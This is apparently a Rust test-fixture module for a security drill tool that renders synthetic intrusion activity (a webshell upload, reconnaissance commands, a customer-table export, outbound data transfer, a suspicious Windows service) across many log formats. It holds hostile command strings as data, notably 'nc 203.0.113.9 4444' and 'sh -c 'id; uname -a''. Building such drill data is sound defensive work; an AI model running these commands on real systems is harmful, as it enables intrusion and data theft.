//! Activities for tests, with data of their own.

use std::borrow::Cow;

use super::Viewer;
use crate::base::id::{AssetId, Id, SignatureId};
use crate::evidence::activity::{
    Activity, Audited, CloudEntry, Connection, Detection, Endpoint, FileDeed, Flow, FlowState,
    Lookup, Message, Process, Program, Proxied, Query, Refused, Request, SampleFacts, ServiceSetUp,
    Session, Start, Transport, Volume, WebConnection,
};
use crate::evidence::hosts::Host;
use crate::evidence::page::Lines;
use crate::evidence::stamp::Stamp;
use crate::scenario::{FileEvent, LogFormat, Method, SignInBy, Signature};

/// Monday, 2 March 2026, 08:15:30.250125 UTC.
pub(in crate::evidence) const AT: Stamp = Stamp(1_772_439_330_250_125);

pub(in crate::evidence) fn host(place: usize, name: &'static str, ip: &str) -> Host {
    Host {
        place,
        asset: AssetId::from(Id::internal(name)),
        name: name.to_owned(),
        ip: ip.parse().unwrap(),
    }
}

pub(in crate::evidence) fn end(ip: &str, port: u16) -> Endpoint {
    Endpoint {
        ip: ip.parse().unwrap(),
        port,
    }
}

/// All formats.
pub(in crate::evidence) const FORMATS: [LogFormat; 22] = [
    LogFormat::NginxAccess,
    LogFormat::NginxError,
    LogFormat::ApacheAccess,
    LogFormat::ApacheError,
    LogFormat::SuricataEve,
    LogFormat::ZeekConn,
    LogFormat::ZeekHttp,
    LogFormat::WazuhAlerts,
    LogFormat::Auditd,
    LogFormat::SysmonLinux,
    LogFormat::Clamd,
    LogFormat::SquidAccess,
    LogFormat::Firewall,
    LogFormat::Syslog,
    LogFormat::PostgresAudit,
    LogFormat::Mactime,
    LogFormat::WindowsSecurity,
    LogFormat::SysmonWindows,
    LogFormat::ZeekDns,
    LogFormat::CloudSignIns,
    LogFormat::OfficeAudit,
    LogFormat::GitAudit,
];

/// Whether a format has a JSON object in each line.
pub(in crate::evidence) const fn is_json(format: LogFormat) -> bool {
    matches!(
        format,
        LogFormat::SuricataEve
            | LogFormat::WazuhAlerts
            | LogFormat::WindowsSecurity
            | LogFormat::SysmonWindows
            | LogFormat::CloudSignIns
            | LogFormat::OfficeAudit
            | LogFormat::GitAudit
    )
}

/// What activities borrow from.
pub(in crate::evidence) struct Stage {
    pub(in crate::evidence) web: Host,
    pub(in crate::evidence) database: Host,
    pub(in crate::evidence) proxy: Host,
    pub(in crate::evidence) siem: Host,
    pub(in crate::evidence) files: Host,
    pub(in crate::evidence) sample: SampleFacts,
    pub(in crate::evidence) signature: Signature,
}

impl Stage {
    pub(in crate::evidence) fn new() -> Self {
        Self {
            web: host(2, "shop-web", "10.30.0.11"),
            database: host(3, "shop-db", "10.30.1.20"),
            proxy: host(4, "proxy", "10.30.0.5"),
            siem: host(6, "siem", "10.30.9.9"),
            files: host(7, "fs-01", "10.30.2.11"),
            sample: SampleFacts {
                path: "/var/www/html/media/logo.php".to_owned(),
                bytes: 412,
                md5: "0123456789abcdef0123456789abcdef".to_owned(),
                sha1: "0123456789abcdef0123456789abcdef01234567".to_owned(),
                sha256: "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
                    .to_owned(),
                known_as: "PHP.Webshell.Drill-1.UNOFFICIAL".to_owned(),
            },
            signature: Signature {
                id: SignatureId::from(Id::internal("upload")),
                sid: 9_000_101,
                message: "DRILL upload of a \"script\"".to_owned(),
                category: "Web Application Attack".to_owned(),
                priority: 1,
                attack: vec!["T1505.003".to_owned(), "T1190".to_owned()],
                rule: "alert http any any -> any any (msg:\"x\"; sid:9000101; rev:3;)".to_owned(),
            },
        }
    }

    /// A log of this format that sees all hosts.
    pub(in crate::evidence) fn viewer(&self, format: LogFormat) -> Viewer {
        Viewer {
            format,
            own: self.siem.clone(),
            watched: vec![
                self.web.clone(),
                self.database.clone(),
                self.proxy.clone(),
                self.files.clone(),
                self.siem.clone(),
            ],
        }
    }

    /// The lines of an activity in a format.
    pub(in crate::evidence) fn lines(
        &self,
        format: LogFormat,
        activity: &Activity<'_>,
    ) -> Vec<String> {
        let mut out = Lines::default();
        self.viewer(format).write(activity, &mut out);
        out.iter()
            .map(|(_, line)| String::from_utf8(line.to_vec()).unwrap())
            .collect()
    }

    /// A connection of two requests from a client: an upload that matches a signature and draws a warning,
    /// and a picture that is not there.
    pub(in crate::evidence) fn web(&self, client: &str) -> Activity<'_> {
        let request = Request {
            at: AT,
            done: AT.later_ms(120),
            method: Method::Post,
            path: "/upload.php?to=a\"b\\c\u{e4}".into(),
            status: 200,
            answer: 57,
            sends: 700,
            sends_text: "",
            answer_text: "",
            referrer: Cow::Borrowed(""),
            agent: "Fetch/1.0 \"beta\"",
            upload: Some(&self.sample),
            warning: Some("Undefined array key \"to\" in /var/www/html/upload.php on line 7"),
            signature: Some(&self.signature),
        };
        let missing = Request {
            at: AT.later_ms(900),
            done: AT.later_ms(901),
            method: Method::Get,
            path: "/img/none.png?v=2".into(),
            status: 404,
            answer: 153,
            sends: 0,
            referrer: "https://shop.example/start".into(),
            agent: "",
            upload: None,
            warning: None,
            signature: None,
            ..request.clone()
        };
        Activity::Web(WebConnection {
            flow: Flow {
                server: end("10.30.0.11", 80),
                up: Volume {
                    payload: 1_340,
                    packets: 7,
                    segments: 0,
                },
                down: Volume {
                    payload: 730,
                    packets: 6,
                    segments: 0,
                },
                start: AT.later(-1_900),
                end: AT.later_ms(905),
                ..flow(77, end(client, 40_100))
            },
            server: &self.web,
            host: "shop.example",
            requests: vec![request, missing],
        })
    }

    pub(in crate::evidence) fn process(&self, command: &'static str, fails: bool) -> Activity<'_> {
        Activity::Process(Process {
            at: AT,
            on: &self.web,
            pid: 21_017,
            ppid: 1_288,
            serial: 5_120,
            user: "www-data",
            uid: 33,
            exe: "/usr/bin/dash",
            command,
            parent: "/usr/sbin/apache2",
            cwd: "/var/www/html",
            key: "web_exec",
            fails,
        })
    }

    pub(in crate::evidence) fn file(&self, event: FileEvent, modified: Stamp) -> Activity<'_> {
        let before = if event == FileEvent::Modified {
            ["0a", "0b", "0c"]
        } else {
            [""; 3]
        };
        Activity::File(FileDeed {
            at: AT,
            on: &self.web,
            event,
            path: Cow::Borrowed(&self.sample.path),
            bytes: self.sample.bytes,
            hashes: ["1a", "1b", "1c"].map(str::to_owned),
            hashes_before: before.map(str::to_owned),
            bytes_before: 400,
            modified,
            modified_before: Stamp(AT.0 - 86_400_000_000),
            user: "www-data",
            uid: 33,
            inode: 131_072,
            serial: 5_121,
            reported: true,
        })
    }

    pub(in crate::evidence) fn ssh(&self, by: SignInBy, fails: bool) -> Activity<'_> {
        Activity::SignIn(Session {
            flow: Flow {
                server: end("10.30.0.11", 22),
                end: AT.later_ms(60_000),
                ..flow(78, end("10.30.7.7", 51_000))
            },
            on: &self.web,
            from: None,
            user: "deploy",
            by,
            fingerprint: "abcDEF".to_owned(),
            fails,
            pid: 3_301,
        })
    }

    pub(in crate::evidence) fn query(&self) -> Activity<'_> {
        Activity::Query(Query {
            at: AT,
            flow: Some(Flow {
                server: end("10.30.1.20", 5_432),
                end: AT.later_ms(4_000),
                ..flow(79, end("10.30.0.11", 50_222))
            }),
            client: end("10.30.0.11", 50_222),
            on: &self.database,
            pid: 4_410,
            statement_id: 2,
            user: "shop",
            database: "orders",
            program: "psql",
            table: "customers",
            statement: "COPY (SELECT id, \"name\" FROM customers) TO STDOUT",
            rows: 31_000,
        })
    }

    pub(in crate::evidence) fn connection(&self, state: FlowState) -> Activity<'_> {
        Activity::Connection(Connection {
            flow: Flow {
                server: end("192.0.2.44", 443),
                end: AT.later_ms(30_000),
                state,
                up: Volume {
                    payload: 5_000_000,
                    packets: 3_500,
                    segments: 0,
                },
                down: Volume {
                    payload: 9_000,
                    packets: 1_750,
                    segments: 0,
                },
                ..flow(80, end("10.30.0.11", 44_001))
            },
            service: "ssl",
            name: "files.store.example",
            lookup: Some(Flow {
                server: end("10.30.0.2", 53),
                transport: Transport::Udp,
                start: AT.later_ms(-20),
                end: AT.later_ms(-12),
                up: Volume {
                    payload: 37,
                    packets: 1,
                    segments: 0,
                },
                down: Volume {
                    payload: 53,
                    packets: 1,
                    segments: 0,
                },
                ..flow(81, end("10.30.0.11", 39_999))
            }),
            opened: state == FlowState::Closed,
            signature: Some(&self.signature),
            by: Program::default(),
        })
    }

    pub(in crate::evidence) fn proxied(&self, denied: bool) -> Activity<'_> {
        Activity::Proxied(Proxied {
            done: AT,
            took_ms: 1_279,
            client: self.web.ip,
            through: &self.proxy,
            host: "files.store.example",
            port: 443,
            address: "192.0.2.44".parse().unwrap(),
            answer: 2_712,
            sends: 40_000,
            denied,
        })
    }

    pub(in crate::evidence) fn detection(&self) -> Activity<'_> {
        Activity::Detection(Detection {
            at: AT,
            on: &self.web,
            sample: &self.sample,
        })
    }

    pub(in crate::evidence) fn message(&self) -> Activity<'_> {
        Activity::Message(Message {
            at: AT,
            on: &self.web,
            program: "CRON",
            pid: 812,
            text: "(root) CMD (/usr/local/bin/rotate\n--now)".into(),
        })
    }

    /// Somebody signs in on the file server from this address.
    pub(in crate::evidence) fn windows(
        &self,
        user: &'static str,
        client: &str,
        by: SignInBy,
        fails: bool,
    ) -> Activity<'_> {
        Activity::SignIn(Session {
            flow: Flow {
                server: end("10.30.2.11", by.port()),
                end: AT.later_ms(60_000),
                ..flow(90, end(client, 51_001))
            },
            on: &self.files,
            from: Some("ws-014"),
            user,
            by,
            fingerprint: String::new(),
            fails,
            pid: 3_302,
        })
    }

    pub(in crate::evidence) fn windows_process(&self, user: &'static str) -> Activity<'_> {
        Activity::Process(Process {
            at: AT,
            on: &self.files,
            pid: 6_001,
            ppid: 1_290,
            serial: 5_122,
            user,
            uid: 0,
            exe: "C:\\Windows\\System32\\cmd.exe",
            command: "cmd.exe /c \"dir C:\\Users\"",
            parent: "C:\\Windows\\explorer.exe",
            cwd: "C:\\Users\\c.ferro\\",
            key: "",
            fails: false,
        })
    }

    pub(in crate::evidence) fn windows_file(&self, event: FileEvent) -> Activity<'_> {
        let Activity::File(deed) = self.file(event, AT) else {
            unreachable!("it is a file");
        };
        Activity::File(FileDeed {
            on: &self.files,
            path: Cow::Borrowed("D:\\Shares\\Claims\\a \"b\".pdf"),
            user: "HARBOUR\\c.ferro",
            uid: 0,
            ..deed
        })
    }

    pub(in crate::evidence) fn service(&self) -> Activity<'_> {
        Activity::Service(ServiceSetUp {
            at: AT,
            on: &self.files,
            name: "UpdateHelper",
            exe: "C:\\ProgramData\\helper.exe -run",
            account: "LocalSystem",
        })
    }

    /// The file server asks for a name.
    pub(in crate::evidence) fn lookup(&self, answer: Option<&str>) -> Activity<'_> {
        Activity::Lookup(Lookup {
            flow: Flow {
                server: end("10.30.0.2", 53),
                transport: Transport::Udp,
                end: AT.later_ms(2),
                ..flow(
                    91,
                    Endpoint {
                        ip: self.files.ip,
                        port: 40_404,
                    },
                )
            },
            name: "relay.boxhaven.example".into(),
            answer: answer.map(|ip| ip.parse().unwrap()),
            by: Program {
                exe: "C:\\ProgramData\\helper.exe",
                user: "SYSTEM",
                start: Some(Start { at: AT, pid: 6_004 }),
            },
        })
    }

    pub(in crate::evidence) fn cloud(&self, fails: &'static str) -> Activity<'_> {
        Activity::Cloud(CloudEntry {
            at: AT,
            on: &self.siem,
            client: "203.0.113.9".parse().unwrap(),
            id: 92,
            user: "c.ferro@harbour.example",
            app: "VPN",
            place: "Lisbon, PT",
            agent: "Mozilla/5.0 (X11; Linux x86_64; rv:147.0) Gecko/20100101 Firefox/147.0",
            second_factor: fails.is_empty(),
            fails,
        })
    }

    pub(in crate::evidence) fn audited(&self, operation: &'static str) -> Activity<'_> {
        Activity::Audited(Audited {
            at: AT,
            on: &self.siem,
            client: "203.0.113.9".parse().unwrap(),
            id: 93,
            user: "c.ferro@harbour.example",
            operation,
            object: "web\\shop \"x\"/y".into(),
            details: vec![
                ("Name", ".".into()),
                ("MoveToFolder", "RSS \"Feeds\"".into()),
            ],
        })
    }

    /// Everything there is, some of it twice.
    pub(in crate::evidence) fn all(&self) -> Vec<Activity<'_>> {
        vec![
            self.web("203.0.113.9"),
            self.web("2001:db8:7::12"),
            self.process("sh -c 'id; uname -a'", false),
            self.process("whoami", false),
            self.process("nc 203.0.113.9 4444", true),
            self.file(FileEvent::Added, AT),
            self.file(FileEvent::Added, Stamp(AT.0 - 900_000_000_000)),
            self.file(FileEvent::Modified, AT),
            self.file(FileEvent::Deleted, AT),
            self.file(FileEvent::Read, AT),
            self.ssh(SignInBy::PublicKey, false),
            self.ssh(SignInBy::Password, true),
            self.query(),
            self.connection(FlowState::Closed),
            self.connection(FlowState::Open),
            self.proxied(false),
            self.proxied(true),
            self.detection(),
            self.message(),
            refused("203.0.113.9", "10.30.0.11"),
            refused("2001:db8:7::12", "2001:db8::11"),
            self.windows("HARBOUR\\c.ferro", "10.30.7.14", SignInBy::Network, false),
            self.windows("Administrator", "10.30.7.14", SignInBy::Network, true),
            self.windows(
                "Administrator",
                "10.30.2.11",
                SignInBy::RemoteDesktop,
                false,
            ),
            self.windows_process("SYSTEM"),
            self.windows_file(FileEvent::Added),
            self.windows_file(FileEvent::Read),
            self.service(),
            self.lookup(Some("203.0.113.9")),
            self.lookup(Some("2001:db8::9")),
            self.lookup(None),
            self.cloud(""),
            self.cloud("Invalid username or password"),
            self.audited("New-InboxRule"),
            self.audited("FileDownloaded"),
        ]
    }
}

pub(in crate::evidence) fn flow(id: u64, client: Endpoint) -> Flow {
    Flow {
        id,
        client,
        server: client,
        transport: Transport::Tcp,
        start: AT,
        end: AT,
        up: Volume {
            payload: 2_000,
            packets: 12,
            segments: 0,
        },
        down: Volume {
            payload: 3_000,
            packets: 11,
            segments: 0,
        },
        state: FlowState::Closed,
    }
}

pub(in crate::evidence) fn refused(client: &str, server: &str) -> Activity<'static> {
    Activity::Refused(Refused {
        at: AT,
        client: end(client, 40_100),
        server: end(server, 80),
        transport: Transport::Tcp,
        packet: 4_711,
    })
}
